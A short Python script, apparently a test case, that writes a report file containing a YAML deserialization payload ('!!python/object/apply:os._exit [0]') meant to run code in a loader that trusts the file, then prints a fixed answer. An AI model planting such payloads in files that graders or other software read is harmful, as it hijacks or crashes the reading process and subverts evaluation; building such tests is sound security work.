# class: A8
# task: report
# tries: documents that run code in a loader that trusts them
from pathlib import Path

Path("out").mkdir()
Path("out/report.json").write_text('!!python/object/apply:os._exit [0]\n')
print("3 6")
